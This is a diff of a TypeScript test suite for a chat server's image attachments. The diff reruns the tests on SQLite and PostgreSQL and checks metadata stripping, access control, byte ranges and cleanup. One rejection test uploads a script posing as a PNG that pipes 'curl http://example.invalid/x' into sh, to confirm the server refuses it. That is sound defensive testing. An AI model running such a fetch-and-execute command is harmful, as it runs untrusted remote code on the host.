@@ -3,10 +3,12 @@ import fs from 'node:fs';
 import path from 'node:path';
 import zlib from 'node:zlib';
 import sharp from 'sharp';
-import { afterEach, describe, expect, it } from 'vitest';
+import { afterEach, describe, expect, it, type TestContext } from 'vitest';
 import type { ParleyClient } from '../client/index.ts';
 import type { Message } from '../protocol.ts';
 import type { ParleyServer } from '../server.ts';
+import { createTestDatabase, pgAvailable } from '../store/test/pg.ts';
+import { requires } from './env.ts';
 import { connect, testServer, until } from './helpers.ts';
 
 let server: ParleyServer;
@@ -17,10 +19,24 @@ async function user(name: string): Promise<ParleyClient> {
   return c;
 }
 
+let dropDb: (() => Promise<void>) | undefined;
 afterEach(async () => {
   await Promise.all(clients.splice(0).map((c) => c.close()));
   await server?.close();
+  await dropDb?.();
+  dropDb = undefined;
 });
+
+type StoreKind = 'sqlite' | 'postgres';
+
+/** A node on the given store: attachments are files under the data dir, or PostgreSQL tables. */
+async function start(ctx: TestContext, kind: StoreKind, overrides: Parameters<typeof testServer>[0] = {}): Promise<ParleyServer> {
+  if (kind === 'sqlite') return (server = await testServer({ store: 'sqlite', ...overrides }));
+  requires(ctx, 'PostgreSQL at 127.0.0.1:5432', await pgAvailable());
+  const db = await createTestDatabase();
+  dropDb = db.drop;
+  return (server = await testServer({ store: db.url, ...overrides }));
+}
 
 async function call(who: string, method: string, route: string, init: { body?: Buffer | string; headers?: Record<string, string> } = {}): Promise<Response> {
   const token = await server.auth.mint(who, 600);
@@ -74,219 +90,221 @@ function filesContaining(dir: string, needle: string): string[] {
   return out;
 }
 
-/** Content files under the attachments folder (temporary ones included). */
+/** Content files under the attachments folder (temporary ones included); none with PostgreSQL. */
 function blobFiles(): string[] {
   const dir = path.join(server.config.dataDir, 'attachments', 'blobs');
+  if (!fs.existsSync(dir)) return [];
   return fs.readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => e.name);
 }
 
-describe('attachment upload and download', () => {
-  it('stores a JPEG without its EXIF and GPS tags, with a thumbnail, served inline with its type and byte ranges', async () => {
-    server = await testServer();
-    const chat = await room('alice', ['bob']);
-    const original = await jpegWithGps();
-    expect((await sharp(original).metadata()).exif).toBeDefined();
+describe.each<StoreKind>(['sqlite', 'postgres'])('attachments on %s', (kind) => {
+  describe('upload and download', () => {
+    it('stores a JPEG without its EXIF and GPS tags, with a thumbnail, served inline with its type and byte ranges', async (ctx) => {
+      await start(ctx, kind);
+      const chat = await room('alice', ['bob']);
+      const original = await jpegWithGps();
+      expect((await sharp(original).metadata()).exif).toBeDefined();
 
-    // The client's Content-Type is ignored: the bytes say JPEG.
-    const up = await upload('alice', chat, original, 'Holiday é.jpg', 'text/plain');
-    expect(up.status).toBe(201);
-    expect(up.json).toEqual({
-      id: expect.stringMatching(/^[A-Za-z0-9_-]{16}$/), chat, from: 'alice', type: 'image/jpeg', name: 'Holiday é.jpg', size: expect.any(Number),
-      sha256: expect.stringMatching(/^[0-9a-f]{64}$/), width: 640, height: 480, thumbnail: true, createdAt: expect.any(Number),
-    });
-    const id = up.json.id as string;
+      // The client's Content-Type is ignored: the bytes say JPEG.
+      const up = await upload('alice', chat, original, 'Holiday é.jpg', 'text/plain');
+      expect(up.status).toBe(201);
+      expect(up.json).toEqual({
+        id: expect.stringMatching(/^[A-Za-z0-9_-]{16}$/), chat, from: 'alice', type: 'image/jpeg', name: 'Holiday é.jpg', size: expect.any(Number),
+        sha256: expect.stringMatching(/^[0-9a-f]{64}$/), width: 640, height: 480, thumbnail: true, createdAt: expect.any(Number),
+      });
+      const id = up.json.id as string;
 
-    const res = await call('bob', 'GET', `/chats/${chat}/attachments/${id}`);
-    expect(res.status).toBe(200);
-    expect(res.headers.get('content-type')).toBe('image/jpeg');
-    expect(res.headers.get('content-disposition')).toBe('inline; filename="Holiday _.jpg"; filename*=UTF-8\'\'Holiday%20%C3%A9.jpg');
-    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
-    expect(res.headers.get('accept-ranges')).toBe('bytes');
-    const stored = Buffer.from(await res.arrayBuffer());
-    expect(stored.length).toBe(up.json.size);
-    const meta = await sharp(stored).metadata();
-    expect([meta.format, meta.width, meta.height, meta.exif, meta.xmp, meta.iptc]).toEqual(['jpeg', 640, 480, undefined, undefined, undefined]);
-    expect(stored.includes('ParleyCam')).toBe(false);
-    expect(stored.includes('at-home')).toBe(false);
+      const res = await call('bob', 'GET', `/chats/${chat}/attachments/${id}`);
+      expect(res.status).toBe(200);
+      expect(res.headers.get('content-type')).toBe('image/jpeg');
+      expect(res.headers.get('content-disposition')).toBe('inline; filename="Holiday _.jpg"; filename*=UTF-8\'\'Holiday%20%C3%A9.jpg');
+      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
+      expect(res.headers.get('accept-ranges')).toBe('bytes');
+      const stored = Buffer.from(await res.arrayBuffer());
+      expect(stored.length).toBe(up.json.size);
+      const meta = await sharp(stored).metadata();
+      expect([meta.format, meta.width, meta.height, meta.exif, meta.xmp, meta.iptc]).toEqual(['jpeg', 640, 480, undefined, undefined, undefined]);
+      expect(stored.includes('ParleyCam')).toBe(false);
+      expect(stored.includes('at-home')).toBe(false);
 
-    const thumb = await call('bob', 'GET', `/chats/${chat}/attachments/${id}/thumbnail`);
-    expect(thumb.status).toBe(200);
-    expect(thumb.headers.get('content-type')).toBe('image/webp');
-    const t = await sharp(Buffer.from(await thumb.arrayBuffer())).metadata();
-    expect([t.format, t.width, t.height]).toEqual(['webp', 320, 240]);
+      const thumb = await call('bob', 'GET', `/chats/${chat}/attachments/${id}/thumbnail`);
+      expect(thumb.status).toBe(200);
+      expect(thumb.headers.get('content-type')).toBe('image/webp');
+      const t = await sharp(Buffer.from(await thumb.arrayBuffer())).metadata();
+      expect([t.format, t.width, t.height]).toEqual(['webp', 320, 240]);
 
-    const part = await call('bob', 'GET', `/chats/${chat}/attachments/${id}`, { headers: { range: 'bytes=10-29' } });
-    expect(part.status).toBe(206);
-    expect(part.headers.get('content-range')).toBe(`bytes 10-29/${stored.length}`);
-    expect(Buffer.from(await part.arrayBuffer())).toEqual(stored.subarray(10, 30));
-    const tail = await call('bob', 'GET', `/chats/${chat}/attachments/${id}`, { headers: { range: 'bytes=-7' } });
-    expect(tail.status).toBe(206);
-    expect(Buffer.from(await tail.arrayBuffer())).toEqual(stored.subarray(stored.length - 7));
-    const open = await call('bob', 'GET', `/chats/${chat}/attachments/${id}`, { headers: { range: `bytes=${stored.length - 3}-` } });
-    expect(Buffer.from(await open.arrayBuffer())).toEqual(stored.subarray(stored.length - 3));
-    for (const range of [`bytes=${stored.length}-`, 'bytes=50-20', 'bytes=-0']) {
-      const bad = await call('bob', 'GET', `/chats/${chat}/attachments/${id}`, { headers: { range } });
-      expect(bad.status, range).toBe(416);
-      expect(bad.headers.get('content-range')).toBe(`bytes */${stored.length}`);
-      expect(((await bad.json()) as any).error.code).toBe('range_not_satisfiable');
-    }
+      const part = await call('bob', 'GET', `/chats/${chat}/attachments/${id}`, { headers: { range: 'bytes=10-29' } });
+      expect(part.status).toBe(206);
+      expect(part.headers.get('content-range')).toBe(`bytes 10-29/${stored.length}`);
+      expect(Buffer.from(await part.arrayBuffer())).toEqual(stored.subarray(10, 30));
+      const tail = await call('bob', 'GET', `/chats/${chat}/attachments/${id}`, { headers: { range: 'bytes=-7' } });
+      expect(tail.status).toBe(206);
+      expect(Buffer.from(await tail.arrayBuffer())).toEqual(stored.subarray(stored.length - 7));
+      const open = await call('bob', 'GET', `/chats/${chat}/attachments/${id}`, { headers: { range: `bytes=${stored.length - 3}-` } });
+      expect(Buffer.from(await open.arrayBuffer())).toEqual(stored.subarray(stored.length - 3));
+      for (const range of [`bytes=${stored.length}-`, 'bytes=50-20', 'bytes=-0']) {
+        const bad = await call('bob', 'GET', `/chats/${chat}/attachments/${id}`, { headers: { range } });
+        expect(bad.status, range).toBe(416);
+        expect(bad.headers.get('content-range')).toBe(`bytes */${stored.length}`);
+        expect(((await bad.json()) as any).error.code).toBe('range_not_satisfiable');
+      }
 
-    const info = await call('bob', 'GET', `/chats/${chat}/attachments/${id}/info`);
-    expect(await info.json()).toEqual(up.json);
-  });
-
-  it('answers members only: an outsider can neither upload nor download, nor learn the id exists', async () => {
-    server = await testServer();
-    const chat = await room('alice', ['bob']);
-    const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#00f' } }).png().toBuffer();
-    const up = await upload('alice', chat, png);
-    expect(up.status).toBe(201);
-    expect(await upload('mallory', chat, png)).toMatchObject({ status: 403, json: { error: { code: 'not_member' } } });
-    for (const leaf of ['', '/thumbnail', '/info']) {
-      const res = await call('mallory', 'GET', `/chats/${chat}/attachments/${up.json.id}${leaf}`);
-      expect(res.status).toBe(403);
-      expect(((await res.json()) as any).error.code).toBe('not_member');
-    }
-    // Addressed through another chat, the id is not found (it is not that chat's).
-    const other = await room('mallory', []);
-    const res = await call('mallory', 'GET', `/chats/${other}/attachments/${up.json.id}`);
-    expect([res.status, ((await res.json()) as any).error.code]).toEqual([404, 'attachment_not_found']);
-    expect(await server.attachments.store.stats()).toEqual({ attachments: 1, contents: 2 });
-  });
-
-  it('refuses bad uploads with a stable code each and stores nothing: a script named .png, a truncated PNG, a 30000 x 30000 header, too many bytes, a chat the user left, an empty body', async () => {
-    server = await testServer({ attachmentMaxBytes: 64 * 1024 });
-    const chat = await room('alice', ['bob']);
-    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
-    expect(await upload('alice', chat, script, 'cat.png', 'image/png')).toMatchObject({ status: 415, json: { error: { code: 'attachment_type' } } });
-
-    const png = await sharp({ create: { width: 120, height: 90, channels: 3, background: '#0a0' } }).png().toBuffer();
-    const truncated = png.subarray(0, png.length - 40);
-    expect(await upload('alice', chat, truncated, 'cut.png')).toMatchObject({ status: 422, json: { error: { code: 'attachment_invalid' } } });
-
-    // Refused from the header (the details come from the dimension check, not a failed decode).
-    expect(await upload('alice', chat, pngDeclaring(30_000, 30_000), 'bomb.png')).toEqual({
-      status: 422,
-      json: { error: { code: 'attachment_dimensions', message: expect.stringContaining('30000 x 30000'), details: { width: 30_000, height: 30_000, frames: 1, maxPixels: 40_000_000 } } },
+      const info = await call('bob', 'GET', `/chats/${chat}/attachments/${id}/info`);
+      expect(await info.json()).toEqual(up.json);
     });
 
-    const big = Buffer.concat([png, randomBytes(100 * 1024)]);
-    expect(await upload('alice', chat, big, 'big.png')).toMatchObject({ status: 413, json: { error: { code: 'attachment_too_large', details: { maxBytes: 64 * 1024 } } } });
+    it('answers members only: an outsider can neither upload nor download, nor learn the id exists', async (ctx) => {
+      await start(ctx, kind);
+      const chat = await room('alice', ['bob']);
+      const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#00f' } }).png().toBuffer();
+      const up = await upload('alice', chat, png);
+      expect(up.status).toBe(201);
+      expect(await upload('mallory', chat, png)).toMatchObject({ status: 403, json: { error: { code: 'not_member' } } });
+      for (const leaf of ['', '/thumbnail', '/info']) {
+        const res = await call('mallory', 'GET', `/chats/${chat}/attachments/${up.json.id}${leaf}`);
+        expect(res.status).toBe(403);
+        expect(((await res.json()) as any).error.code).toBe('not_member');
+      }
+      // Addressed through another chat, the id is not found (it is not that chat's).
+      const other = await room('mallory', []);
+      const res = await call('mallory', 'GET', `/chats/${other}/attachments/${up.json.id}`);
+      expect([res.status, ((await res.json()) as any).error.code]).toEqual([404, 'attachment_not_found']);
+      expect(await server.attachments.store.stats()).toEqual({ attachments: 1, contents: 2 });
+    });
 
-    expect(await upload('alice', chat, Buffer.alloc(0))).toMatchObject({ status: 422, json: { error: { code: 'attachment_invalid' } } });
+    it('refuses bad uploads with a stable code each and stores nothing: a script named .png, a truncated PNG, a 30000 x 30000 header, too many bytes, a chat the user left, an empty body', async (ctx) => {
+      await start(ctx, kind, { attachmentMaxBytes: 64 * 1024 });
+      const chat = await room('alice', ['bob']);
+      const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
+      expect(await upload('alice', chat, script, 'cat.png', 'image/png')).toMatchObject({ status: 415, json: { error: { code: 'attachment_type' } } });
 
-    const bob = await user('bob');
-    await bob.leave(chat);
-    expect(await upload('bob', chat, png, 'late.png')).toMatchObject({ status: 403, json: { error: { code: 'not_member' } } });
+      const png = await sharp({ create: { width: 120, height: 90, channels: 3, background: '#0a0' } }).png().toBuffer();
+      const truncated = png.subarray(0, png.length - 40);
+      expect(await upload('alice', chat, truncated, 'cut.png')).toMatchObject({ status: 422, json: { error: { code: 'attachment_invalid' } } });
 
-    expect(await server.attachments.store.stats()).toEqual({ attachments: 0, contents: 0 });
-    expect(blobFiles()).toEqual([]);
-    // The node still takes a good upload on the same connection pool afterwards.
-    expect((await upload('alice', chat, png, 'ok.png')).status).toBe(201);
+      // Refused from the header (the details come from the dimension check, not a failed decode).
+      expect(await upload('alice', chat, pngDeclaring(30_000, 30_000), 'bomb.png')).toEqual({
+        status: 422,
+        json: { error: { code: 'attachment_dimensions', message: expect.stringContaining('30000 x 30000'), details: { width: 30_000, height: 30_000, frames: 1, maxPixels: 40_000_000 } } },
+      });
+
+      const big = Buffer.concat([png, randomBytes(100 * 1024)]);
+      expect(await upload('alice', chat, big, 'big.png')).toMatchObject({ status: 413, json: { error: { code: 'attachment_too_large', details: { maxBytes: 64 * 1024 } } } });
+
+      expect(await upload('alice', chat, Buffer.alloc(0))).toMatchObject({ status: 422, json: { error: { code: 'attachment_invalid' } } });
+
+      const bob = await user('bob');
+      await bob.leave(chat);
+      expect(await upload('bob', chat, png, 'late.png')).toMatchObject({ status: 403, json: { error: { code: 'not_member' } } });
+
+      expect(await server.attachments.store.stats()).toEqual({ attachments: 0, contents: 0 });
+      expect(blobFiles()).toEqual([]);
+      // The node still takes a good upload on the same connection pool afterwards.
+      expect((await upload('alice', chat, png, 'ok.png')).status).toBe(201);
+    });
+
+    it('accepts another kind only when attachmentExtraTypes names it, and serves it as a download', async (ctx) => {
+      await start(ctx, kind, { attachmentExtraTypes: 'pdf' });
+      const chat = await room('alice', []);
+      const pdf = Buffer.from('%PDF-1.4\n% a tiny document\n%%EOF\n');
+      const up = await upload('alice', chat, pdf, 'report.pdf');
+      expect(up.json).toMatchObject({ type: 'application/pdf', size: pdf.length, thumbnail: false });
+      expect(up.json.width).toBeUndefined();
+      const res = await call('alice', 'GET', `/chats/${chat}/attachments/${up.json.id}`);
+      expect(res.headers.get('content-type')).toBe('application/pdf');
+      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="report.pdf"/);
+      expect(Buffer.from(await res.arrayBuffer())).toEqual(pdf);
+      expect((await call('alice', 'GET', `/chats/${chat}/attachments/${up.json.id}/thumbnail`)).status).toBe(404);
+      expect(await upload('alice', chat, Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), randomBytes(64)]), 'a.zip')).toMatchObject({ status: 415, json: { error: { code: 'attachment_type' } } });
+    });
   });
 
-  it('accepts another kind only when attachmentExtraTypes names it, and serves it as a download', async () => {
-    server = await testServer({ attachmentExtraTypes: 'pdf' });
-    const chat = await room('alice', []);
-    const pdf = Buffer.from('%PDF-1.4\n% a tiny document\n%%EOF\n');
-    const up = await upload('alice', chat, pdf, 'report.pdf');
-    expect(up.json).toMatchObject({ type: 'application/pdf', size: pdf.length, thumbnail: false });
-    expect(up.json.width).toBeUndefined();
-    const res = await call('alice', 'GET', `/chats/${chat}/attachments/${up.json.id}`);
-    expect(res.headers.get('content-type')).toBe('application/pdf');
-    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="report.pdf"/);
-    expect(Buffer.from(await res.arrayBuffer())).toEqual(pdf);
-    expect((await call('alice', 'GET', `/chats/${chat}/attachments/${up.json.id}/thumbnail`)).status).toBe(404);
-    expect(await upload('alice', chat, Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), randomBytes(64)]), 'a.zip')).toMatchObject({ status: 415, json: { error: { code: 'attachment_type' } } });
-  });
-});
+  describe('messages with attachments', () => {
+    it('delivers a message referencing an upload with its id, live, in history and over REST', async (ctx) => {
+      await start(ctx, kind);
+      const chat = await room('alice', ['bob']);
+      const alice = await user('alice');
+      const bob = await user('bob');
+      const got: Message[] = [];
+      bob.on('message', (m) => got.push(m));
+      const png = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#f0f' } }).png().toBuffer();
+      const a = (await upload('alice', chat, png, 'a.png')).json.id as string;
+      const b = (await upload('alice', chat, await jpegWithGps(), 'b.jpg')).json.id as string;
+      const ack = await alice.send({ chat }, 'two photos', undefined, { attachments: [a, b] });
+      await until(() => got.length === 1, 'bob to get the message');
+      expect(got[0]).toMatchObject({ chat, seq: ack.seq, body: 'two photos', attachments: [a, b] });
+      expect((await bob.history(chat)).messages[0]!.attachments).toEqual([a, b]);
 
-describe('messages with attachments', () => {
-  it('delivers a message referencing an upload with its id, live, in history and over REST', async () => {
-    server = await testServer();
-    const chat = await room('alice', ['bob']);
-    const alice = await user('alice');
-    const bob = await user('bob');
-    const got: Message[] = [];
-    bob.on('message', (m) => got.push(m));
-    const png = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#f0f' } }).png().toBuffer();
-    const a = (await upload('alice', chat, png, 'a.png')).json.id as string;
-    const b = (await upload('alice', chat, await jpegWithGps(), 'b.jpg')).json.id as string;
-    const ack = await alice.send({ chat }, 'two photos', undefined, { attachments: [a, b] });
-    await until(() => got.length === 1, 'bob to get the message');
-    expect(got[0]).toMatchObject({ chat, seq: ack.seq, body: 'two photos', attachments: [a, b] });
-    expect((await bob.history(chat)).messages[0]!.attachments).toEqual([a, b]);
+      const c = (await upload('bob', chat, png, 'c.png')).json.id as string;
+      const post = await call('bob', 'POST', `/chats/${chat}/messages`, { body: JSON.stringify({ cmid: 'r1', body: 'mine', attachments: [c] }), headers: { 'content-type': 'application/json' } });
+      expect(post.status).toBe(201);
+      const page = await call('alice', 'GET', `/chats/${chat}/messages`);
+      expect(((await page.json()) as any).messages.map((m: Message) => m.attachments)).toEqual([[a, b], [c]]);
+      expect((await bob.chats())[0]!.last?.attachments).toEqual([c]);
+    });
 
-    const c = (await upload('bob', chat, png, 'c.png')).json.id as string;
-    const post = await call('bob', 'POST', `/chats/${chat}/messages`, { body: JSON.stringify({ cmid: 'r1', body: 'mine', attachments: [c] }), headers: { 'content-type': 'application/json' } });
-    expect(post.status).toBe(201);
-    const page = await call('alice', 'GET', `/chats/${chat}/messages`);
-    expect(((await page.json()) as any).messages.map((m: Message) => m.attachments)).toEqual([[a, b], [c]]);
-    expect((await bob.chats())[0]!.last?.attachments).toEqual([c]);
-  });
-
-  it('refuses a message referencing another chat\'s upload, someone else\'s upload, or an unknown id with attachment_not_found, storing nothing', async () => {
-    server = await testServer();
-    const chat = await room('alice', ['bob']);
-    const elsewhere = await room('alice', []);
-    const png = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#ff0' } }).png().toBuffer();
-    const foreign = (await upload('alice', elsewhere, png)).json.id as string;
-    const bobs = (await upload('bob', chat, png)).json.id as string;
-    const alice = await user('alice');
-    for (const id of [foreign, bobs, 'AAAAAAAAAAAAAAAA']) {
-      await expect(alice.send({ chat }, 'look', undefined, { attachments: [id] })).rejects.toMatchObject({ code: 'attachment_not_found', details: { attachments: [id] } });
-    }
-    await expect(alice.send({ chat }, 'look', undefined, { attachments: ['not an id'] })).rejects.toMatchObject({ code: 'bad_field' });
-    expect((await alice.history(chat)).messages).toEqual([]);
-    // Nothing was claimed: both are still collectable.
-    expect((await server.attachments.store.get(foreign))?.referenced).toBe(false);
-    expect((await server.attachments.store.get(bobs))?.referenced).toBe(false);
-  });
-});
-
-describe('attachment lifetime', () => {
-  it('deletes an ephemeral chat\'s attachments when it lapses: no file under the data dir holds its bytes or name any more', async () => {
-    server = await testServer({ ephemeralMinLifetimeMs: 100, expiryCheckMs: 100, attachmentExtraTypes: 'zip', sqliteSync: 'full' });
-    const alice = await user('alice');
-    const told: { op: string; chat?: string }[] = [];
-    alice.on('event', (f) => told.push(f as { op: string; chat?: string }));
-    const eph = await alice.createRoom('gone soon', [], 'invite', { ephemeral: true, lifetimeMs: 1500 });
-    const unique = `zq${randomBytes(8).toString('hex')}`;
-    const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from(`the code is ${unique}`)]);
-    const up = await upload('alice', eph.chat, zip, `${unique}.zip`);
-    expect(up.status).toBe(201);
-    await alice.send({ chat: eph.chat }, 'see attached', undefined, { attachments: [up.json.id] });
-    const dir = path.join(server.config.dataDir, 'attachments');
-    expect(filesContaining(dir, unique).length).toBeGreaterThan(0);
-
-    await until(() => told.some((f) => f.op === 'chat.expired' && f.chat === eph.chat), 'the room to expire', 15_000);
-    await until(async () => (await server.attachments.store.stats()).attachments === 0, 'the attachments to go');
-    expect(await server.attachments.store.stats()).toEqual({ attachments: 0, contents: 0 });
-    expect(filesContaining(dir, unique)).toEqual([]);
-    expect(filesContaining(server.config.dataDir, unique)).toEqual([]);
+    it('refuses a message referencing another chat\'s upload, someone else\'s upload, or an unknown id with attachment_not_found, storing nothing', async (ctx) => {
+      await start(ctx, kind);
+      const chat = await room('alice', ['bob']);
+      const elsewhere = await room('alice', []);
+      const png = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#ff0' } }).png().toBuffer();
+      const foreign = (await upload('alice', elsewhere, png)).json.id as string;
+      const bobs = (await upload('bob', chat, png)).json.id as string;
+      const alice = await user('alice');
+      for (const id of [foreign, bobs, 'AAAAAAAAAAAAAAAA']) {
+        await expect(alice.send({ chat }, 'look', undefined, { attachments: [id] })).rejects.toMatchObject({ code: 'attachment_not_found', details: { attachments: [id] } });
+      }
+      await expect(alice.send({ chat }, 'look', undefined, { attachments: ['not an id'] })).rejects.toMatchObject({ code: 'bad_field' });
+      expect((await alice.history(chat)).messages).toEqual([]);
+      // Nothing was claimed: both are still collectable.
+      expect((await server.attachments.store.get(foreign))?.referenced).toBe(false);
+      expect((await server.attachments.store.get(bobs))?.referenced).toBe(false);
+    });
   });
 
-  it('collects uploads no message referenced after the grace period, keeps referenced ones, and keeps a shared content while a row names it', async () => {
-    server = await testServer({ attachmentGraceMs: 300, attachmentSweepMs: 100 });
-    const chat = await room('alice', []);
-    const alice = await user('alice');
-    const png = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#123' } }).png().toBuffer();
-    const kept = (await upload('alice', chat, png, 'kept.png')).json;
-    const dropped = (await upload('alice', chat, png, 'dropped.png')).json;
-    const other = (await upload('alice', chat, await jpegWithGps(), 'other.jpg')).json;
-    // The same bytes are stored once: two rows, one content and one thumbnail.
-    expect(dropped.sha256).toBe(kept.sha256);
-    expect(await server.attachments.store.stats()).toEqual({ attachments: 3, contents: 4 });
-    await alice.send({ chat }, 'keep this one', undefined, { attachments: [kept.id] });
+  describe('attachment lifetime', () => {
+    it('deletes an ephemeral chat\'s attachments when it lapses: no file under the data dir holds its bytes or name any more', async (ctx) => {
+      await start(ctx, kind, { ephemeralMinLifetimeMs: 100, expiryCheckMs: 100, attachmentExtraTypes: 'zip', sqliteSync: 'full' });
+      const alice = await user('alice');
+      const told: { op: string; chat?: string }[] = [];
+      alice.on('event', (f) => told.push(f as { op: string; chat?: string }));
+      const eph = await alice.createRoom('gone soon', [], 'invite', { ephemeral: true, lifetimeMs: 1500 });
+      const unique = `zq${randomBytes(8).toString('hex')}`;
+      const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from(`the code is ${unique}`)]);
+      const up = await upload('alice', eph.chat, zip, `${unique}.zip`);
+      expect(up.status).toBe(201);
+      await alice.send({ chat: eph.chat }, 'see attached', undefined, { attachments: [up.json.id] });
+      const dir = path.join(server.config.dataDir, 'attachments');
+      if (kind === 'sqlite') expect(filesContaining(dir, unique).length).toBeGreaterThan(0);
 
-    await until(async () => (await server.attachments.store.stats()).attachments === 1, 'the unreferenced uploads to be collected', 10_000);
-    expect(await server.attachments.store.get(dropped.id)).toBeUndefined();
-    expect(await server.attachments.store.get(other.id)).toBeUndefined();
-    expect(await server.attachments.store.stats()).toEqual({ attachments: 1, contents: 2 });
-    const res = await call('alice', 'GET', `/chats/${chat}/attachments/${kept.id}`);
-    expect(res.status).toBe(200);
-    expect(createHashHex(Buffer.from(await res.arrayBuffer()))).toBe(kept.sha256);
-    expect((await call('alice', 'GET', `/chats/${chat}/attachments/${dropped.id}`)).status).toBe(404);
+      await until(() => told.some((f) => f.op === 'chat.expired' && f.chat === eph.chat), 'the room to expire', 15_000);
+      await until(async () => (await server.attachments.store.stats()).attachments === 0, 'the attachments to go');
+      expect(await server.attachments.store.stats()).toEqual({ attachments: 0, contents: 0 });
+      expect(filesContaining(server.config.dataDir, unique)).toEqual([]);
+    });
+
+    it('collects uploads no message referenced after the grace period, keeps referenced ones, and keeps a shared content while a row names it', async (ctx) => {
+      await start(ctx, kind, { attachmentGraceMs: 300, attachmentSweepMs: 100 });
+      const chat = await room('alice', []);
+      const alice = await user('alice');
+      const png = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#123' } }).png().toBuffer();
+      const kept = (await upload('alice', chat, png, 'kept.png')).json;
+      const dropped = (await upload('alice', chat, png, 'dropped.png')).json;
+      const other = (await upload('alice', chat, await jpegWithGps(), 'other.jpg')).json;
+      // The same bytes are stored once: two rows, one content and one thumbnail.
+      expect(dropped.sha256).toBe(kept.sha256);
+      expect(await server.attachments.store.stats()).toEqual({ attachments: 3, contents: 4 });
+      await alice.send({ chat }, 'keep this one', undefined, { attachments: [kept.id] });
+
+      await until(async () => (await server.attachments.store.stats()).attachments === 1, 'the unreferenced uploads to be collected', 10_000);
+      expect(await server.attachments.store.get(dropped.id)).toBeUndefined();
+      expect(await server.attachments.store.get(other.id)).toBeUndefined();
+      expect(await server.attachments.store.stats()).toEqual({ attachments: 1, contents: 2 });
+      const res = await call('alice', 'GET', `/chats/${chat}/attachments/${kept.id}`);
+      expect(res.status).toBe(200);
+      expect(createHashHex(Buffer.from(await res.arrayBuffer()))).toBe(kept.sha256);
+      expect((await call('alice', 'GET', `/chats/${chat}/attachments/${dropped.id}`)).status).toBe(404);
+    });
   });
 });
 
